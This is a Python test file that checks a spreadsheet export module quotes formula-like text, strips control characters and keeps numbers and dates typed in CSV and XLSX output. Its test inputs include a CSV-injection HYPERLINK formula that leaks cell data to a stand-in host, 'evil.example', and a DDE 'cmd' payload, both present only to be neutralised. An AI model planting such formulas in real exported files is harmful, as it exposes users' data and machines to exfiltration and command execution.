"""The one spreadsheet writer: text never becomes a formula, control characters never break a file, and numbers
and dates stay numbers and dates (issue #23, finding 1)."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from isf.core import spreadsheet

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(("value", "cell"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+49 40 123456", "'+49 40 123456"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("\x00=1+1", "'=1+1"),  # the control character goes first, then the formula is seen
    ("Bau\x00 \x1fGmbH\x0b", "Bau GmbH"),
    ("Zeile 1\nZeile 2\tTab", "Zeile 1\nZeile 2\tTab"),  # line breaks and tabs inside a text are text
    ("-12", "-12"),  # only a signed number: a spreadsheet reads the number, nothing else
    ("+4940123456", "+4940123456"),
    ("-1.234,56", "-1.234,56"),
    ("-1e5", "'-1e5"),
    ("Müller = Meier", "Müller = Meier"),
    ("'=1+1", "'=1+1"),
    ("", ""),
])
def test_csv_text_quotes_what_a_spreadsheet_would_evaluate(value, cell):
    assert spreadsheet.csv_text(value) == cell


@pytest.mark.parametrize("value", [HYPERLINK, "-2+3", "@x", "\t1", "-12", "abc", "'abc", ""])
def test_csv_text_value_gives_back_what_was_written(value):
    assert spreadsheet.csv_text_value(spreadsheet.csv_text(value)) == value


def test_the_removed_control_characters_are_exactly_those_openpyxl_refuses():
    ours = {chr(i) for i in range(0x110000) if i < 0xD800 or i > 0xDFFF if spreadsheet.CONTROL_CHARACTERS.search(chr(i))}
    refused = {chr(i) for i in range(0x110000) if i < 0xD800 or i > 0xDFFF if ILLEGAL_CHARACTERS_RE.search(chr(i))}
    assert ours == refused and len(ours) == 29


def test_csv_cells_numbers_dates_and_booleans_are_never_quoted():
    row = [-3, Decimal("-1234.50"), Decimal("-7.5"), -66.7, 4.0, float("nan"), None, date(2026, 3, 2),
           datetime(2026, 3, 2, 9, 30, tzinfo=UTC), datetime(2026, 7, 1, 22, 15, tzinfo=UTC), True, "-x"]
    with translation.override("de"):
        cells = [spreadsheet.csv_cell(v) for v in row]
    assert cells == ["-3", "-1234,50", "-7,5", "-66,7", "4,0", "", "", "02.03.2026", "02.03.2026 10:30",
                     "02.07.2026 00:15", "ja", "'-x"]
    with translation.override("en"):
        assert spreadsheet.csv_cell(False) == "no"


def test_csv_string_quotes_separators_and_line_breaks_and_starts_with_a_bom():
    text = spreadsheet.csv_string([["a;b", 'say "hi"', "two\nlines", "=1"], [], [1, None]])
    assert text == '\ufeff"a;b";"say ""hi""";"two\nlines";\'=1\r\n\r\n1;\r\n'
    assert list(csv.reader(io.StringIO(text[1:]), delimiter=";")) == [
        ["a;b", 'say "hi"', "two\nlines", "'=1"], [], ["1", ""]]
    assert spreadsheet.csv_string([["x"]], bom=False) == "x\r\n"


def test_write_csv_writes_utf8_with_bom(tmp_path):
    path = tmp_path / "report.csv"
    spreadsheet.write_csv(path, [["Wert"], ["=1+1"], ["Größe"]])
    assert path.read_bytes() == "\ufeffWert\r\n'=1+1\r\nGröße\r\n".encode()


def test_xlsx_writes_every_text_as_text_and_numbers_and_dates_as_numbers_and_dates():
    values = [HYPERLINK, "#N/A", "-2+3", "Null\x00bau", "-12", -3, Decimal("-1234.50"), -66.7, float("inf"), True,
              date(2026, 3, 2), datetime(2026, 3, 2, 9, 30, tzinfo=UTC), None, ""]
    sheet = load_workbook(spreadsheet.xlsx_file([["header"], values])).active
    header, row = list(sheet.iter_rows())
    assert (header[0].value, header[0].data_type) == ("header", "s")
    assert [c.data_type for c in row[:12]] == ["s", "s", "s", "s", "s", "n", "n", "n", "n", "b", "d", "d"]
    assert [c.value for c in row] == [
        HYPERLINK, "#N/A", "-2+3", "Nullbau", "-12", -3, -1234.5, -66.7, None, True, datetime(2026, 3, 2),
        datetime(2026, 3, 2, 10, 30), None, None]
    assert [c.is_date for c in row[10:12]] == [True, True]


def test_xlsx_file_has_no_formula_element_at_all():
    import zipfile

    f = spreadsheet.xlsx_file([[HYPERLINK, "=1+1", "@SUM(A1)"]])
    with zipfile.ZipFile(f) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml


def test_no_other_module_writes_spreadsheet_files():
    """One rule, one place: a second csv.writer or openpyxl Workbook would bypass the neutralisation."""
    from pathlib import Path

    root = Path(spreadsheet.__file__).resolve().parents[2]
    writers = sorted(
        str(path.relative_to(root)) for path in (root / "isf").rglob("*.py")
        if "tests" not in path.parts and path.name != "spreadsheet.py"
        and any(s in path.read_text(encoding="utf-8") for s in ("csv.writer(", "csv.DictWriter(", "Workbook("))
    )
    assert writers == []
